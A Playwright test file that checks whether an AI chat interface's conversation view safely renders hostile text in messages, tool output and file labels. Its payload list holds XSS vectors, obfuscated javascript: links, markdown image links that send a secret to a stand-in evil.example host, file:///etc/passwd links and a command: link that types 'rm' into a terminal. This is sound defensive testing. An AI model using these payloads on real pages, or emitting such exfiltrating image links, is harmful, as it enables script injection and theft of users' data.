// Shows the page what nobody means well with. Usage: npm run test:view -- hostile
import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { asked, runChecks, until } from './checks.mts';

const run = 'window.hacked=1';
/** Each would run, load, style or send something if it were taken at its word. */
const pieces: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT/src=https://evil.example/x.js></SCRIPT >`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><use href="data:image/svg+xml,<svg onload=${run}>">`,
  `<math><mtext><style><img src=x onerror="${run}">`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<a href="javascript:${run}">go</a>`,
  `<form action="https://evil.example"><button formaction="javascript:${run}">go`,
  '<style>* { background: url(https://evil.example/style) }</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/d)">',
  '<table><tr><td background="https://evil.example/t">',
  '<details open ontoggle="window.hacked=1"><summary>s',
  '<video poster=https://evil.example/v><source onerror="window.hacked=1">',
  '<!-- <img src=https://evil.example/c> --!><img src=https://evil.example/c2>',
  '![secret](https://evil.example/p?d=SECRET)',
  '![secret][ref]\n\n[ref]: https://evil.example/r?d=SECRET "t"',
  '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  `[a](javascript:${run})`,
  `[b](java\tscript:${run})`,
  `[c](&#106;avascript:${run})`,
  `[d](JaVaScRiPt&colon;${run})`,
  `[e](\u0001javascript:${run})`,
  `[f](vbscript:${run}) [g](data:text/html,<script>${run}</script>)`,
  '[h](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D)',
  '[i](vscode://evil.ext/x) [j](file:///etc/passwd) [k](//evil.example/x)',
  '<command:workbench.action.quit> <javascript:alert(1)>',
  '[l][m]\n\n[m]: command:workbench.action.quit',
  `[n](https://evil.example/"onmouseover="${run})`,
  `[o](https://evil.example 'x" onfocus="${run}" autofocus="')`,
  `[p](<https://evil.example/> "\`\`\`</a><img src=x onerror=${run}>")`,
  '```"onmouseover="window.hacked=1\ncode\n```',
  `\`\`\`html\n<img src=x onerror="${run}"></code></pre><script>${run}</script>\n\`\`\``,
  '`<img src=x onerror=window.hacked=1>`',
  `- [x] <img src=x onerror="${run}">\n- [ ] </li></ul><script>${run}</script>`,
  `| <img src=x onerror="${run}"> | b |\n| :-: | - |\n| [x](javascript:${run}) | </table> |`,
  '<b><i><u>never closed',
  '</div></article></main></body></html>',
  '**never closed _neither `nor this ~~nor [that](',
  '```\na fence that is never closed <img src=x onerror=window.hacked=1>',
  '\u202Egnp.exe\u202C \u0000\uFFFD\u2028\u2029',
  '{{constructor.constructor("window.hacked=1")()}} ${window.hacked=1} <%= 1 %>',
  '<!--?lit$1$--> ?lit$1$ <!--lit-part-->',
];

const allowed = ['href', 'data-href', 'title', 'class', 'role', 'tabindex', 'start', 'type'];
allowed.push('aria-label', 'data-code-act', 'data-item');

/** Puts a text wherever the page shows one that a model, a file or a session wrote. */
async function everywhere(page: Page, text: string, running: boolean): Promise<void> {
  await page.evaluate(
    ([hostile, isRunning]) => {
      const [user] = fakeHost.view.messages.filter((one) => one.role === 'user');
      const [reply] = fakeHost.view.messages.filter((one) => one.role === 'assistant');
      if (!user || !reply) throw new Error('no turn');
      const call = { input: hostile, output: hostile, summary: hostile } as const;
      fakeHost.show({
        title: hostile,
        running: isRunning,
        messages: [
          { ...user, text: hostile, attachments: [{ label: hostile, data: { uri: hostile } }] },
          {
            ...reply,
            status: isRunning ? 'running' : 'failed',
            model: hostile,
            error: { code: 'model', message: hostile },
            files: [{ uri: hostile, label: hostile, kind: 'changed', byHand: false }],
            parts: [
              { type: 'text', text: hostile },
              { type: 'reasoning', text: hostile },
              { type: 'tool', name: hostile, state: 'done', ...call },
              { type: 'todo', items: [{ text: hostile, done: false }] },
            ],
          },
          { role: 'summary', id: 'hostile', text: hostile, createdAt: 0 },
        ],
      });
    },
    [text, running] as const,
  );
  // Two frames: the page draws once each.
  await page.evaluate(
    () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
  );
}

/** Returns what is on the page that a text must not be able to put there. */
function found(page: Page): Promise<readonly string[]> {
  return page.evaluate((attributes) => {
    const wrong: string[] = 'hacked' in window ? ['it ran'] : [];
    const tags = 'script, iframe, object, embed, form, base, meta, link, style, video, audio, math';
    for (const { outerHTML } of document.body.querySelectorAll(tags))
      if (!outerHTML.includes('src="main.js"') && !outerHTML.includes('src="fakeHost.js"'))
        wrong.push(outerHTML);
    for (const image of document.querySelectorAll('img'))
      if (!image.src.startsWith('data:image/')) wrong.push(image.outerHTML);
    for (const element of document.querySelectorAll('*'))
      for (const { name } of element.attributes)
        if (name.startsWith('on')) wrong.push(element.outerHTML);
    for (const element of document.querySelectorAll('.markdown *')) {
      for (const { name } of element.attributes)
        if (!attributes.includes(name)) wrong.push(`${name} in ${element.outerHTML}`);
      const href = element.getAttribute('href');
      if (href !== null && !/^https?:/iu.test(href)) wrong.push(href);
      const own = element.getAttribute('data-href');
      if (
        own !== null &&
        /^[\s\p{Cc}]*[a-z][a-z\d+.-]{2,}:(?!\d)/iu.test(own) &&
        !/^https?:/iu.test(own)
      )
        wrong.push(own);
    }
    return wrong;
  }, allowed);
}

function outside(page: Page): readonly string[] {
  const own = new URL(page.url()).origin;
  const reached: string[] = [];
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(own) && !url.startsWith('data:')) reached.push(url);
  });
  return reached;
}

await runChecks({
  'conversation: hostile text runs, loads, styles and sends nothing, wherever it is shown': async (
    page,
  ) => {
    const reached = outside(page);
    for (const piece of [...pieces, pieces.join('\n\n'), pieces.join(' ')]) {
      for (const running of [true, false]) {
        await everywhere(page, piece, running);
        assert.deepEqual(await found(page), [], piece);
      }
    }
    // It is there, as text.
    const shown = await page.locator('body').innerText();
    for (const text of ['<iframe srcdoc', 'javascript:', '</div></article>', 'evil.example/d'])
      assert.ok(shown.includes(text), text);
    for (const fold of await page.locator('summary, [aria-expanded="false"]').all())
      if (await fold.isVisible()) await fold.click({ timeout: 1_000 }).catch(() => undefined);
    assert.deepEqual(await found(page), []);
    assert.deepEqual(reached, []);
  },

  'conversation: hostile pieces in any order, as they stream, do nothing': async (page) => {
    const reached = outside(page);
    let seed = Date.now() % 1_000_000;
    const random = (limit: number): number => {
      seed = (seed * 48_271) % 2_147_483_647;
      return seed % limit;
    };
    for (let round = 0; round < 60; round += 1) {
      const [begun, text] = [seed, Array.from({ length: 12 }, () => pieces[random(pieces.length)])];
      // Cut anywhere: what streams is cut everywhere.
      const whole = text.map((piece = '') => piece.slice(random(2) * random(6))).join('\n');
      await everywhere(page, whole.slice(0, random(whole.length)), true);
      assert.deepEqual(await found(page), [], `seed ${begun}`);
      await everywhere(page, whole, false);
      assert.deepEqual(await found(page), [], `seed ${begun}`);
    }
    assert.deepEqual(reached, []);
  },

  'conversation: a link that is pressed goes to the host, and nowhere by itself': async (page) => {
    const before = page.url();
    await everywhere(page, '[web](https://evil.example/x) [file](../../etc/passwd)', false);
    for (const name of ['web', 'file'])
      await page.locator('.markdown').first().getByText(name, { exact: true }).click();
    await until('both asked', async () => (await asked(page, 'openLink')).length === 2);
    assert.deepEqual(await asked(page, 'openLink'), [
      { href: 'https://evil.example/x' },
      { href: '../../etc/passwd' },
    ]);
    assert.equal(page.url(), before);
  },

  'conversation: text that nests without end is drawn, or left as it is, in good time': async (
    page,
  ) => {
    const begin = Date.now();
    for (const piece of ['>', '- ', '**', '[', '![', '<b>', '`', '(', '| ', '\\', '~~', '&#'])
      await everywhere(page, piece.repeat(5_000), false);
    await page.getByTestId('title').waitFor();
    assert.ok(Date.now() - begin < 20_000, `${Date.now() - begin} ms`);
  },
});
